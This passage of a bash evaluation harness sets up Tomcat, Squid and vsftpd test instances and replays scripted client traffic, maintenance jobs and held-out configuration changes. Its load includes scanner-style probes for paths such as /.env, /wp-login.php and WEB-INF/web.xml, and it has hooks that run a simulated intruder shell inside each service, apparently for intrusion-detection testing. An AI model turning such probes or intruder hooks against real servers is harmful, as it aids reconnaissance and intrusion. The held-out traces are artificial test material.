    if (name == null || msg == null || msg.length() > 4000) { response.sendError(400); return; }
    String line = System.currentTimeMillis() + "\t" + name.replaceAll("\\s", " ") + "\t" + msg.replaceAll("\\s", " ") + "\n";
    synchronized (application) { Files.writeString(f, line, StandardOpenOption.CREATE, StandardOpenOption.APPEND); }
    response.sendRedirect("guestbook.jsp");
    return;
  }
  List<String> lines;
  synchronized (application) { lines = Files.exists(f) ? Files.readAllLines(f) : List.of(); }
%><%@ include file="/WEB-INF/jspf/header.jspf" %><h1>guestbook</h1><%
  for (int i = Math.max(0, lines.size() - 20); i < lines.size(); i++) {
    String[] p = lines.get(i).split("\t", 3);
    if (p.length == 3) { %><p><b><%= p[1].replace("<", "&lt;") %></b>: <%= p[2].replace("<", "&lt;") %></p><% }
  }
%><form method="post"><input name="name"><textarea name="message"></textarea><button>sign</button></form></body></html>
JSP
  echo "body { font-family: sans-serif; margin: 2em }" >"$TC_SHOP/static/css/site.css"
  echo "document.querySelectorAll('form').forEach(f => f.reset())" >"$TC_SHOP/static/js/app.js"
  for i in $(seq 1 20); do head -c $((1024 + i * 97)) /dev/urandom >"$TC_SHOP/static/img/$i.png"; done
  for i in $(seq -w 1 30); do echo "<html><body>page $i</body></html>" >"$TC_SHOP/static/pages/page$i.html"; done
  head -c 200000 /dev/urandom >"$TC_SHOP/static/files/catalog.pdf"
}

TC_PID=
# As Debian's tomcat10.service does (its tomcat-start.sh): `catalina.sh run` as tomcat, the
# JVM in the foreground (catalina.sh execs it); ready once the shop's stylesheet is served
# (a JVM's start on two busy cores can take longer than until_ok waits: curl retries).
tomcat_start() {
  launch tomcat tomcat "${TC_ENV[@]}" "$TC_HOME/bin/catalina.sh" run
  TC_PID=$LAUNCHED
  tomcat_wait_for /shop/static/css/site.css
}
# tomcat_wait_for PATH: waits up to 90 s until tomcat serves PATH (200).
tomcat_wait_for() {
  curl -sf -o /dev/null --retry 90 --retry-delay 1 --retry-all-errors --max-time 5 \
    "http://127.0.0.1:$TOMCAT_PORT$1" || die "tomcat: $1 not served in 90 s"
}
# As the service manager's stop: TERM to the JVM, whose shutdown hook stops Catalina.
tomcat_stop() { stop_pid "$TC_PID" TERM; }
# tomcat_catalina ARGS...: the operator's `catalina.sh ARGS` as tomcat inside the cgroup.
tomcat_catalina() { admin tomcat tomcat "${TC_ENV[@]}" "$TC_HOME/bin/catalina.sh" "$@"; }

# tomcat_get NET FIRST COUNT ROUND PER CONC PATH...: GETs the paths, PER requests per keep-alive
# connection, CONC connections at a time, from NET.FIRST .. NET.(FIRST+COUNT-1) (spread_get).
tomcat_get() { spread_get "$TOMCAT_PORT" "$1" "$2" "$3" 7 5 "$4" "$5" "$6" "${@:7}"; }
# tomcat_sign ADDR SIZE: a guestbook entry of about SIZE characters posted from ADDR.
tomcat_sign() {
  addr_curl "$1" --data-urlencode "name=visitor $RANDOM" \
    --data-urlencode "message=$(head -c "$2" /dev/zero | tr '\0' x) $RANDOM" \
    "http://127.0.0.1:$TOMCAT_PORT/shop/guestbook.jsp"
}

# Mix A: the shop's home page, products 1-10, the guestbook, the counter, pages 1-10, images
# 1-8, the stylesheet and script, the site's home page and robots.txt, and 404s (a JSP that
# does not exist, a product that does not exist, a scanner's path), over 3 keep-alive clients
# from 127.0.0.2-4; a guestbook entry posted (a redirect back).
TC_ROUND=0
tomcat_mix_a() {
  local r=$((TC_ROUND += 1)) i
  local paths=(/ /robots.txt /shop/ /shop/counter.jsp /shop/guestbook.jsp /shop/static/css/site.css
               /shop/static/js/app.js /shop/missing.jsp /shop/product.jsp?id=999 /wp-login.php)
  for i in $(seq 1 10); do paths+=("/shop/product.jsp?id=$i"); done
  for i in $(seq -w 1 10); do paths+=("/shop/static/pages/page$i.html"); done
  for i in $(seq 1 8); do paths+=("/shop/static/img/$i.png"); done
  tomcat_get 127.0.0 2 3 "$r" 14 3 "${paths[@]}"
  tomcat_sign "127.0.0.$((2 + r % 3))" 60
}
# Mix B: products 20-60, pages 11-30, images 9-20, the 200 kB PDF, the status page, the
# counter, other 404s (the manager application, a protected WEB-INF file, an old path), one
# client from 127.0.0.5 and then eight from 127.0.0.5-8 (4 requests each); HEAD requests; a
# 2 kB guestbook entry.
tomcat_mix_b() {
  local r=$((TC_ROUND += 1)) i
  local paths=(/status.jsp /favicon.ico /shop/index.jsp /shop/counter.jsp /shop/static/files/catalog.pdf
               /manager/html /shop/WEB-INF/web.xml /old/index.jsp /shop/product.jsp?id=abc)
  for i in $(seq 20 60); do paths+=("/shop/product.jsp?id=$i"); done
  for i in $(seq 11 30); do paths+=("/shop/static/pages/page$i.html"); done
  for i in $(seq 9 20); do paths+=("/shop/static/img/$i.png"); done
  tomcat_get 127.0.0 5 1 "$r" 20 1 "${paths[@]:0:20}"
  tomcat_get 127.0.0 5 4 "$r" 4 8 "${paths[@]}"
  addr_curl 127.0.0.6 -I "http://127.0.0.1:$TOMCAT_PORT/shop/"
  addr_curl 127.0.0.7 -I "http://127.0.0.1:$TOMCAT_PORT/shop/static/files/catalog.pdf"
  tomcat_sign "127.0.0.$((5 + r % 4))" 2000
}
# Its scheduled job in training: the monitoring's version check (`catalina.sh version`, a
# second JVM).
tomcat_maintenance() { tomcat_catalina version; }

# The generic intruder script as tomcat (an exploited application executing a shell) in the
# applications' data directory. `catalina.sh` itself is a /bin/sh script that runs uname at
# every start, so neither the shell nor uname is new to the cgroup: neither is a required
# label.
tomcat_inject() { inject_shell tomcat tomcat "$TC_DATA"; }
tomcat_labels() {
  write_labels tomcat "$TC_DATA" "" shell-known
  sed -i 's|"subject": "\*/uname", |&"required": false, |' testdata/tomcat/drift.labels.json
}

# Held out. A new application goes live while tomcat runs: orders.war, built by the deploy
# tool (root, outside the cgroup, with `jar` or python's zipfile) and dropped into webapps/,
# where tomcat unpacks and deploys it (autoDeploy). It keeps a cart in the session (a
# JSESSIONID cookie; Debian's context.xml keeps no sessions across a restart), appends orders
# at checkout to data/orders.csv, ends sessions at sign-out, serves a CSV report of 20000
# lines (about 1 MB) and a 3 MB price list. Each round clients from 127.0.18.1-250 (another
# offset each round), 8 at a time, 5 requests each, for the shop's products 30-100 (most
# never requested), its pages and images, the new application's pages and missing paths;
# three shoppers from other addresses (cookie jars), one report and every other round the
# price list; a 3 kB guestbook entry. Every 20 s in turn: the shop's product.jsp changed by
# the operator (Jasper compiles it again) and orders' WEB-INF/web.xml touched (tomcat reloads
# the application); then orders.war removed (tomcat undeploys it: the unpacked directory and
# its work/ are deleted) and the version check (`catalina.sh version`). Restarted halfway
# through the rounds (the deploy waits for tomcat's scan, so the trace runs about 80 s).
TC_ORDERS_DIR=$WORK/tomcat-orders   # the release's build directory (outside CATALINA_BASE)
tomcat_heldout_deploy() {
  local b=$TC_ORDERS_DIR
  rm -rf "$b"
  mkdir -p "$b"/{WEB-INF,static}
  tomcat_web_xml orders '
  <session-config><session-timeout>30</session-timeout></session-config>' >"$b/WEB-INF/web.xml"
  cat >"$b/index.jsp" <<'JSP'
<%@ page contentType="text/html; charset=UTF-8" %><html><body><h1>orders</h1>
<p>session <%= session.isNew() ? "new" : "resumed" %></p><a href="cart.jsp">cart</a></body></html>
JSP
  cat >"$b/cart.jsp" <<'JSP'
<%@ page contentType="text/html; charset=UTF-8" import="java.nio.file.*,java.util.*" %><%
  @SuppressWarnings("unchecked")
  List<Integer> cart = (List<Integer>) session.getAttribute("cart");
  if (cart == null) { cart = new ArrayList<>(); session.setAttribute("cart", cart); }
  String add = request.getParameter("add");
  if (add != null) cart.add(Integer.parseInt(add));
  if ("POST".equals(request.getMethod()) && !cart.isEmpty()) {
    Path f = Paths.get(application.getInitParameter("data.dir"), "orders.csv");
    String line = System.currentTimeMillis() + "," + session.getId().substring(0, 8) + "," + cart + "\n";
    synchronized (application) { Files.writeString(f, line, StandardOpenOption.CREATE, StandardOpenOption.APPEND); }
    cart.clear();
  }
  if (request.getParameter("logout") != null) { session.invalidate(); %>signed out<% return; }
%><html><body><p><%= cart.size() %> items: <%= cart %></p></body></html>
JSP
  cat >"$b/report.jsp" <<'JSP'
<%@ page session="false" contentType="text/csv" %><%
  int rows = Math.min(50000, Integer.parseInt(request.getParameter("rows") == null ? "100" : request.getParameter("rows")));
  for (int i = 1; i <= rows; i++) { out.print(i + ",product " + (i % 100 + 1) + "," + (i * 7 % 90 + 5) + ".00,in stock\n"); }
%>
JSP
  head -c 3000000 /dev/urandom >"$b/static/prices-2027.pdf"
  if command -v jar >/dev/null; then jar --create --file "$WORK/orders.war" -C "$b" .
  else (cd "$b" && python3 -m zipfile -c "$WORK/orders.war" index.jsp cart.jsp report.jsp WEB-INF static); fi
  # Dropped in under another name and renamed, so tomcat never sees half a WAR.
  install -o tomcat -g tomcat -m 644 "$WORK/orders.war" "$TC_APPS/orders.war.part"
  mv "$TC_APPS/orders.war.part" "$TC_APPS/orders.war"
  tomcat_wait_for /orders/report.jsp
}
# tomcat_shopper ADDR ROUND: a customer's visit to orders from ADDR with a cookie jar
# (outside the cgroup): the start page (a new session), three items into the cart, the cart;
# the checkout (POST) every other round, the sign-out (the session ended) every third.
tomcat_shopper() {
  local jar u=http://127.0.0.1:$TOMCAT_PORT/orders i
  jar=$(mktemp "$WORK/tomcat-client.XXXXXX")
  local req=(addr_curl "$1" -b "$jar" -c "$jar")
  "${req[@]}" "$u/"
  for i in 1 2 3; do "${req[@]}" "$u/cart.jsp?add=$((1 + ($2 * 7 + i * 13) % 100))"; done
  "${req[@]}" "$u/cart.jsp"
  [ $(($2 % 2)) != 0 ] || "${req[@]}" -X POST "$u/cart.jsp"
  [ $(($2 % 3)) != 0 ] || "${req[@]}" "$u/cart.jsp?logout=1"
  rm -f "$jar"
}
TC_HELDOUT_ROUND=0
tomcat_heldout_mix() {
  local r=$((TC_HELDOUT_ROUND += 1)) i pids=()
  local paths=(/ /status.jsp /shop/ /shop/counter.jsp /shop/guestbook.jsp /orders/ /orders/cart.jsp
               /orders/report.jsp?rows=50 /orders/missing.jsp /orders/WEB-INF/web.xml /shop/static/files/catalog.pdf
               /api/v1/orders /shop/product.jsp?id=0 /shop/static/css/site.css /shop/static/js/app.js)
  for i in $(seq $((30 + r % 5)) 5 100); do paths+=("/shop/product.jsp?id=$i"); done
  for i in $(seq -w $((1 + r % 3)) 3 30); do paths+=("/shop/static/pages/page$i.html"); done
  for i in $(seq $((1 + r % 4)) 4 20); do paths+=("/shop/static/img/$i.png"); done
  spread_get "$TOMCAT_PORT" 127.0.18 1 250 61 67 "$r" 5 8 "${paths[@]}"
  for i in 0 1 2; do
    tomcat_shopper "127.0.18.$((1 + (r * 37 + i * 83) % 250))" $((r * 3 + i)) &
    pids+=($!)
  done
  addr_curl "127.0.18.$((1 + (r * 53) % 250))" "http://127.0.0.1:$TOMCAT_PORT/orders/report.jsp?rows=20000"
  [ $((r % 2)) != 0 ] || addr_curl "127.0.18.$((1 + (r * 29) % 250))" "http://127.0.0.1:$TOMCAT_PORT/orders/static/prices-2027.pdf"
  wait "${pids[@]}"
  tomcat_sign "127.0.18.$((1 + (r * 11) % 250))" 3000
}
TC_HELDOUT_JOBS=0
tomcat_heldout_job() {
  TC_HELDOUT_JOBS=$((TC_HELDOUT_JOBS + 1))
  if [ $((TC_HELDOUT_JOBS % 2)) = 1 ]; then
    sed -i 's|<h1>product <%= id %></h1>|<h1>product <%= id %></h1><p>ships in <%= 1 + id % 3 %> days</p>|' "$TC_SHOP/product.jsp"
    touch "$TC_APPS/orders/WEB-INF/web.xml"
    sleep 12   # tomcat's background thread looks every 10 s
    tomcat_wait_for /orders/report.jsp
  else
    rm -f "$TC_APPS/orders.war"
    tomcat_catalina version
  fi
}

# Held out, seventeenth set (heldout17). No deploy. A cold start under load: tomcat's JVM
# starts inside the recording while clients already retry (heldout17_begin). Clients from
# 127.0.19.1-250 for every ninth product, every sixth page and every fifth image (another
# offset each round), the counter, the guestbook and the assets, as many at a time as the
# slow wave's load; once the second connector is in, a status check and the catalogue over
# it with gzip asked for; one more client in turn (heldout17_odd): upper-case, percent-encoded
# and dot-segment forms of the stylesheet, requests for the 200 kB PDF sent and closed without
# reading, eight visitors at once on the counter (which rewrites counter.txt under a lock), a
# guestbook entry posted with a chunked body, 40 one-byte ranges over one connection, an
# absolute-form request with two ranges and `OPTIONS *`. The maintenance, early: the
# configuration checked by the operator inside the cgroup (`catalina.sh configtest`, a second
# JVM that parses server.xml). The change, in the middle, by a full restart (TERM, start): a
# second HTTP connector on 127.0.0.1:$TOMCAT_PORT2 with response compression and its own
# keep-alive limit. The maintenance, late, while the load falls: the JVM's thread dump (QUIT
# from outside, written to its console log). The recording ends with load still running.
TOMCAT_PORT2=18381
TC_HELDOUT17_PORT2=0
tomcat_heldout17_deploy() { TC_HELDOUT17_PORT2=0; heldout17_free_port "$TOMCAT_PORT2"; }
tomcat_heldout17_mix() {
  local r=$HELDOUT17_ROUND i paths=(/ /shop/ /shop/counter.jsp /shop/guestbook.jsp /shop/static/css/site.css /shop/static/js/app.js)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth '/shop/product.jsp?id=' 9 100 "$r"
    every_nth /shop/static/pages/page 6 30 "$r" .html | sed 's|page\([0-9]\)\.|page0\1.|'
    every_nth /shop/static/img/ 5 20 "$r" .png)
  heldout17_get "$TOMCAT_PORT" "${paths[@]}"
  if [ "$TC_HELDOUT17_PORT2" = 1 ]; then
    addr_curl "$(heldout17_addr 5)" --compressed "http://127.0.0.1:$TOMCAT_PORT2/status.jsp" \
      "http://127.0.0.1:$TOMCAT_PORT2/shop/" "http://127.0.0.1:$TOMCAT_PORT2/shop/product.jsp?id=$((1 + r % 100))"
  fi
  heldout17_odd "$TOMCAT_PORT" /shop/static/css/site.css /shop/static/files/catalog.pdf /shop/counter.jsp /shop/guestbook.jsp
}
tomcat_heldout17_early() { tomcat_catalina configtest; }
tomcat_heldout17_change() {
  local xml=$TC_DIR/conf/server.xml
  tomcat_stop
  sed -i "s|^\( *\)<Connector address=\"127.0.0.1\" port=\"$TOMCAT_PORT\"|\1<Connector address=\"127.0.0.1\" port=\"$TOMCAT_PORT2\" protocol=\"HTTP/1.1\" connectionTimeout=\"20000\" compression=\"on\" compressionMinSize=\"512\" maxKeepAliveRequests=\"50\" />\n&|" "$xml"
  grep -q "port=\"$TOMCAT_PORT2\"" "$xml" || die "tomcat heldout17: server.xml not changed"
  tomcat_start
  until_ok curl -sf "http://127.0.0.1:$TOMCAT_PORT2/shop/static/css/site.css"
  TC_HELDOUT17_PORT2=1
}
tomcat_heldout17_late() { kill -QUIT "$TC_PID"; sleep 1; }

# --- squid --------------------------------------------------------------------------------

SQUID_PORT=13128                  # squid's http_port
SQUID_ORIGIN_PORTS=(18201 18202)  # the origin servers (python3, outside the cgroup); the second from heldout's deploy on
SQUID_PROXY=http://127.0.0.1:$SQUID_PORT
SQUID_DIR=$WORK/squid
SQUID_CONF=$SQUID_DIR/conf/squid.conf
SQUID_CACHE=$SQUID_DIR/cache
SQUID_ORIGIN=$WORK/squid-origin.py   # the origin servers' code
SQUID_LASTMOD="Mon, 30 Nov 2026 08:00:00 GMT"   # every origin object's Last-Modified

# Squid 5.7 (Debian squid), a caching forward proxy, as its own instance, not the system
# service: `squid -N -f conf/squid.conf` (no daemon, no kids: one process that is the worker)
# started as root in dw-eval/squid, after `squid -N -z` as Debian's unit does before each start
# (ExecStartPre: the swap directories that are missing); it opens its port and logs as root
# and runs as proxy (cache_effective_user), with its two helpers log_file_daemon (the access
# log) and unlinkd (removes swap files). Its root-owned config in conf/; http_port
# 127.0.0.1:$SQUID_PORT for 127.0.0.0/8 only; a ufs cache_dir of 64 MB (16 x 256
# directories of numbered swap files and swap.state) in cache/, also its coredump dir; the
# access and cache logs in log/ (3 generations kept by `squid -k rotate`), the pid file in
# run/. No ICMP pinger, no netdb file, DNS only to 127.0.0.1 (the origins are addressed by IP).
# CONNECT only to port 443 and the origin's port; the cache manager for localhost (squidclient).
# The origins (python3, outside the cgroup) serve objects by path prefix: static files and
# images cacheable for 10 minutes, pages for 5 s (then revalidated by If-Modified-Since), news
# that must be revalidated each time, private account pages, no-store API answers, documents
# of 50-300 kB, large files of 1-6 MB, 404 for the rest; ranges, 304s and POSTs.
squid_provision() {
  local p
  squid_origins_stop
  for p in "$SQUID_PORT" "${SQUID_ORIGIN_PORTS[@]}"; do
    if ss -Hltn "sport = :$p" | grep -q .; then die "port $p is in use"; fi
  done
  rm -rf "$SQUID_DIR"
  mkdir -p "$SQUID_DIR"/{conf,log,run} "$SQUID_CACHE"
  chown proxy:proxy "$SQUID_CACHE" "$SQUID_DIR"/{log,run}
  cat >"$SQUID_CONF" <<CONF
http_port 127.0.0.1:$SQUID_PORT
pid_filename $SQUID_DIR/run/squid.pid
cache_effective_user proxy
cache_effective_group proxy
cache_dir ufs $SQUID_CACHE 64 16 256
coredump_dir $SQUID_CACHE
cache_mem 8 MB
maximum_object_size 8 MB
access_log daemon:$SQUID_DIR/log/access.log squid
cache_log $SQUID_DIR/log/cache.log
cache_store_log none
logfile_rotate 3
netdb_filename none
pinger_enable off
dns_nameservers 127.0.0.1
shutdown_lifetime 1 seconds
acl localnet src 127.0.0.0/8
acl Safe_ports port 80 443 18201-18209
acl tunnel_ports port 443 ${SQUID_ORIGIN_PORTS[0]}
acl CONNECT method CONNECT
http_access allow localhost manager
http_access deny manager
http_access deny !Safe_ports
http_access deny CONNECT !tunnel_ports
http_access allow localnet
http_access deny all
refresh_pattern -i (/cgi-bin/|\?) 0 0% 0
refresh_pattern . 0 20% 4320
CONF
  chmod 644 "$SQUID_CONF"
  squid_origin_tool
  /usr/sbin/squid -N -z -f "$SQUID_CONF" >/dev/null 2>&1 || die "squid -z failed"
  squid_origin_start 0
}

# The origin servers, in python3 (outside the cgroup): `squid-origin.py PORT`, HTTP/1.1 with
# keep-alive; what a path gets depends on its prefix (above); a body's size and bytes follow
# from its path.
squid_origin_tool() {
  cat >"$SQUID_ORIGIN" <<PY
import hashlib, http.server, sys

LASTMOD = "$SQUID_LASTMOD"
PY
  cat >>"$SQUID_ORIGIN" <<'PY'
# prefix: (smallest size, size range, Cache-Control)
RULES = [("/static/", 2000, 60000, "public, max-age=600"), ("/img/", 2000, 60000, "public, max-age=600"),
         ("/assets/", 2000, 120000, "public, max-age=86400, immutable"),
         ("/page/", 3000, 20000, "public, max-age=5"), ("/news/", 4000, 30000, "public, max-age=0, must-revalidate"),
         ("/docs/", 50000, 250000, "public, max-age=120"), ("/big/", 1000000, 5000000, "public, max-age=3600"),
         ("/video/", 1000000, 5000000, "public, max-age=3600"), ("/downloads/", 4000000, 3000000, "public, max-age=3600"),
         ("/api/", 200, 2000, "no-store"), ("/account/", 800, 3000, "private, max-age=60")]

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "origin/1.0"

    def log_message(self, *args):
        pass

    def reply(self, status, headers, body=b""):
        self.send_response(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            try:
                self.wfile.write(body)
            except OSError:
                pass

    def do_GET(self):
        path = self.path.split("?", 1)[0]
        if path == "/":
            path = "/page/0"
        rule = next((r for r in RULES if path.startswith(r[0])), None)
        if rule is None:
            self.reply(404, [("Content-Type", "text/html"), ("Cache-Control", "no-cache")], b"<html>not found</html>\n")
            return
        digest = hashlib.sha256(path.encode()).digest()
        size = rule[1] + int.from_bytes(digest[:4], "big") % rule[2]
        body = (digest * (size // len(digest) + 1))[:size]
        etag = '"%s"' % digest[:8].hex()
        headers = [("Cache-Control", rule[3]), ("ETag", etag), ("Last-Modified", LASTMOD), ("Accept-Ranges", "bytes"),
                   ("Content-Type", "text/html" if size < 100000 else "application/octet-stream")]
        if self.headers.get("If-None-Match") == etag or self.headers.get("If-Modified-Since") == LASTMOD:
            self.reply(304, headers[:3])
            return
        spec = self.headers.get("Range", "")
        if spec.startswith("bytes=") and "," not in spec:
            first, _, last = spec[6:].partition("-")
            start = int(first) if first else max(0, size - int(last))
            end = min(int(last), size - 1) if first and last else size - 1
            if start > end:
                self.reply(416, [("Content-Range", "bytes */%d" % size)])
                return
            headers.append(("Content-Range", "bytes %d-%d/%d" % (start, end, size)))
            self.reply(206, headers, body[start:end + 1])
            return
        self.reply(200, headers, body)

    do_HEAD = do_GET

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        self.reply(201, [("Cache-Control", "no-store")], b"ok\n")

class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

Server(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
PY
}

# squid_origin_start N: the N-th origin (outside the cgroup), up before squid asks it
# anything (squid remembers an address that refused it).
SQUID_ORIGIN_PIDS=("" "")
squid_origin_start() {
  python3 "$SQUID_ORIGIN" "${SQUID_ORIGIN_PORTS[$1]}" >/dev/null 2>&1 &
  SQUID_ORIGIN_PIDS[$1]=$!
  PIDS+=($!)
  until_ok curl -s -o /dev/null "http://127.0.0.1:${SQUID_ORIGIN_PORTS[$1]}/"
}
squid_origins_stop() {
  local n
  for n in 0 1; do
    [ -z "${SQUID_ORIGIN_PIDS[$n]}" ] || stop_pid "${SQUID_ORIGIN_PIDS[$n]}" TERM
    SQUID_ORIGIN_PIDS[n]=""
  done
}

SQUID_PID=
# As Debian's unit does: `squid -z` first (ExecStartPre), then squid in the foreground as root
# in the cgroup (ready once it listens); stopped by TERM (a shutdown after shutdown_lifetime).
squid_start() {
  squid_ctl -N -z
  launch squid root /usr/sbin/squid -N -f "$SQUID_CONF"
  SQUID_PID=$LAUNCHED
  until_ok postfix_listening "$SQUID_PORT"
}
squid_stop() { stop_pid "$SQUID_PID" TERM; }
# squid_ctl ARGS...: the operator's `squid -f conf ARGS` (-k rotate, -k reconfigure, -k parse)
# as root inside the cgroup; squid_mgr PAGE...: the cache manager's PAGEs (mgr:info ...) read
# with squidclient, as root inside the cgroup.
squid_ctl() { admin squid root /usr/sbin/squid -f "$SQUID_CONF" "$@"; }
# squid_reconfigure: `squid -k reconfigure`, and the wait for squid to listen again (it closes
# and reopens its port).
squid_reconfigure() { squid_ctl -k reconfigure; sleep 1; until_ok postfix_listening "$SQUID_PORT"; }
squid_mgr() {
  local p
  for p in "$@"; do admin squid root /usr/bin/squidclient -h 127.0.0.1 -p "$SQUID_PORT" "mgr:$p"; done
}

# squid_get ORIGIN NET FIRST COUNT PER CONC PATH...: the paths of origin number ORIGIN fetched
# through squid (spread_get with squid as curl's proxy), PER requests per connection, CONC
# connections at a time, from NET.FIRST-(FIRST + COUNT - 1); squid_curl ADDR ARG...: one curl
# through squid from ADDR.
SQUID_ROUND=0
squid_get() {
  http_proxy=$SQUID_PROXY spread_get "${SQUID_ORIGIN_PORTS[$1]}" "$2" "$3" "$4" 7 3 "$SQUID_ROUND" "${@:5}"
}
squid_curl() { addr_curl "$1" -x "$SQUID_PROXY" "${@:2}"; }
# squid_seq PREFIX FIRST LAST [SUFFIX]: the paths PREFIX FIRST..LAST SUFFIX.
squid_seq() { seq "$2" "$3" | sed "s|.*|$1&${4:-}|"; }

# Mix A: three clients (127.0.0.2-4), four requests per connection: the home page, pages 1-20
# (revalidated by squid after 5 s), css, js, images 1-10 (hits), news 1-5 (revalidated each
# time), the API's no-store answers, an account page, two scanner paths (404); a client's
# conditional GET (If-Modified-Since: 304 from the cache), a POST, a CONNECT tunnel to the
# origin's port (allowed) and one to port 22 (refused).
squid_mix_a() {
  local r=$((SQUID_ROUND += 1)) o=http://127.0.0.1:${SQUID_ORIGIN_PORTS[0]}
  local paths
  mapfile -t paths < <(squid_seq /page/ 1 20; squid_seq /img/ 1 10 .png; squid_seq /news/ 1 5)
  squid_get 0 127.0.0 2 3 4 3 / /static/app.css /static/app.js /api/status /api/cart \
    "/account/$((r % 6))" /wp-login.php /.env "${paths[@]}"
  squid_curl 127.0.0.2 -H "If-Modified-Since: $SQUID_LASTMOD" "$o/static/app.css"
  squid_curl 127.0.0.3 -d "item=$r" "$o/api/order"
  squid_curl 127.0.0.3 -p "$o/static/app.js"
  squid_curl 127.0.0.4 -p http://127.0.0.1:22/
}
# Mix B: pages 21-50, images 11-30, documents 1-15 (50-300 kB), news 6-12, other API paths
# and a missing one, from 127.0.0.5-8: one connection with all of them, then eight at a time,
# two requests each; HEAD requests, a reload (Cache-Control: no-cache) and a Pragma one.
squid_mix_b() {
  local o=http://127.0.0.1:${SQUID_ORIGIN_PORTS[0]}
  local paths
  mapfile -t paths < <(squid_seq /page/ 21 50; squid_seq /img/ 11 30 .png; squid_seq /docs/ 1 15 .pdf
                       squid_seq /news/ 6 12)
  SQUID_ROUND=$((SQUID_ROUND + 1))
  squid_get 0 127.0.0 5 4 999 1 /api/items "/api/search?q=$RANDOM" /admin/ "${paths[@]}"
  squid_get 0 127.0.0 5 4 2 8 /api/items /missing.html "${paths[@]}"
  squid_curl 127.0.0.6 -I "$o/docs/$((RANDOM % 15 + 1)).pdf"
  squid_curl 127.0.0.7 -H 'Cache-Control: no-cache' "$o/img/$((RANDOM % 20 + 11)).png"
  squid_curl 127.0.0.8 -H 'Pragma: no-cache' "$o/page/$((RANDOM % 30 + 21))"
}
# Its scheduled jobs in training: the access and cache logs rotated (`squid -k rotate`), the
# monitoring's cache manager page (`squidclient mgr:info`), and the configuration re-read
# (`squid -k reconfigure`, which restarts the log helper).
squid_maintenance() { squid_ctl -k rotate; squid_mgr info; squid_reconfigure; }

# The generic intruder script as proxy (an exploited squid executing a shell) in its cache
# directory.
squid_inject() { inject_shell squid proxy "$SQUID_CACHE"; }
squid_labels() { write_labels squid "$SQUID_CACHE"; }

# Held out. A second origin goes live on 127.0.0.1:${SQUID_ORIGIN_PORTS[1]} (a video and
# download site: 1-6 MB files, immutable assets), and the operator changes squid's config for
# it: objects up to 32 MB, 6 log generations, PURGE allowed from localhost; checked (`squid -k
# parse`) and re-read (`squid -k reconfigure`) inside the cgroup. Each round clients from
# 127.0.17.1-250 (another offset each round), six at a time: 40 static files never asked for
# before (the cache grows into new swap directories), pages 30-80, images 20-60, news, from
# the second origin assets and a video; one range request of a video, one download abandoned
# after 0.4 s, a 404 there. Every 20 s in turn: the logs rotated four times (generations past
# .2), the cache manager's storedir and 5min pages, and pages purged (PURGE from 127.0.0.1);
# then a changed refresh_pattern (pages kept up to 60 s, then 120 s ...) and cache size (96 MB, then
# 128 MB ...), checked and re-read, and mgr:info.
squid_heldout_deploy() {
  squid_origin_start 1
  sed -i -e 's/^maximum_object_size .*/maximum_object_size 32 MB/' -e 's/^logfile_rotate .*/logfile_rotate 6/' \
    -e '/^http_access allow localnet/i acl purge method PURGE\nhttp_access allow purge localhost\nhttp_access deny purge' \
    "$SQUID_CONF"
  squid_ctl -k parse
  squid_reconfigure
}
squid_heldout_mix() {
  local r=$((SQUID_ROUND += 1)) o=http://127.0.0.1:${SQUID_ORIGIN_PORTS[1]} a
  local paths
  mapfile -t paths < <(squid_seq "/static/v2/r$r-" 1 40 .css; squid_seq /page/ $((30 + r % 20)) $((60 + r % 20))
                       squid_seq /img/ $((20 + r % 10)) $((50 + r % 10)) .jpg)
  squid_get 0 127.0.17 1 250 3 6 / /news/$((r % 12)) /api/feed /old/path.html "${paths[@]}"
  squid_get 1 127.0.17 1 250 2 6 /assets/app.$((r % 3)).js /assets/logo.svg "/video/$((r % 8)).mp4" /videos/missing.mp4
  a=127.0.17.$((1 + (r * 37) % 250))
  squid_curl "$a" -r "$((r * 1000))-$((r * 1000 + 65535))" "$o/video/$(((r + 1) % 8)).mp4"
  squid_curl "$a" --limit-rate 500k --max-time 0.4 "$o/downloads/$((r % 5)).iso"
}
SQUID_HELDOUT_JOBS=0
squid_heldout_job() {
  SQUID_HELDOUT_JOBS=$((SQUID_HELDOUT_JOBS + 1))
  if [ $((SQUID_HELDOUT_JOBS % 2)) = 1 ]; then
    local p
    for p in 1 2 3 4; do squid_ctl -k rotate; done
    squid_mgr storedir 5min
    for p in $(squid_seq /page/ 30 40) /; do
      addr_curl 127.0.0.1 -x "$SQUID_PROXY" -X PURGE "http://127.0.0.1:${SQUID_ORIGIN_PORTS[0]}$p"
    done
  else
    local step=$((SQUID_HELDOUT_JOBS / 2))
    sed -i -e "s/^cache_dir ufs \(.*\) [0-9]* 16 256/cache_dir ufs \1 $((64 + 32 * step)) 16 256/" \
      -e '\|^refresh_pattern -i /page/|d' -e "s|^refresh_pattern \. |refresh_pattern -i /page/ 1 50% $((60 * step))\n&|" \
      "$SQUID_CONF"
    squid_ctl -k parse
    squid_reconfigure
    squid_mgr info
  fi
}

# --- vsftpd -------------------------------------------------------------------------------

VSFTPD_PORT=12121              # vsftpd's control connections
VSFTPD_PASV=(12130 12137)      # its passive data ports (heldout's change widens the range)
VSFTPD_PASV_WIDE=12159         # the widened range's last port
VSFTPD_DIR=$WORK/vsftpd
VSFTPD_CONF=$VSFTPD_DIR/conf/vsftpd.conf
VSFTPD_HOME=$VSFTPD_DIR/home   # the local users' home directories (their chroots)
VSFTPD_ANON=$VSFTPD_DIR/anon   # the anonymous root
VSFTPD_PAM=dw-eval-vsftpd      # its PAM service, /etc/pam.d/dw-eval-vsftpd (removed at the end)
VSFTPD_CLIENT=$WORK/vsftpd-client.py   # the FTP clients (python3 ftplib, outside the cgroup)
VSFTPD_ALL_USERS=(alice bob carol)     # local users dwftp-NAME (carol only from heldout's deploy)

# vsftpd 3.0.3 (Debian vsftpd) as its own instance, not the system service (its unit
# disabled): `vsftpd conf/vsftpd.conf` started as root in dw-eval/vsftpd, standalone
# (listen=YES) on 127.0.0.1:$VSFTPD_PORT in the foreground (background=NO), as Debian's unit
# runs it. For each control connection the listener forks a session: a privileged process
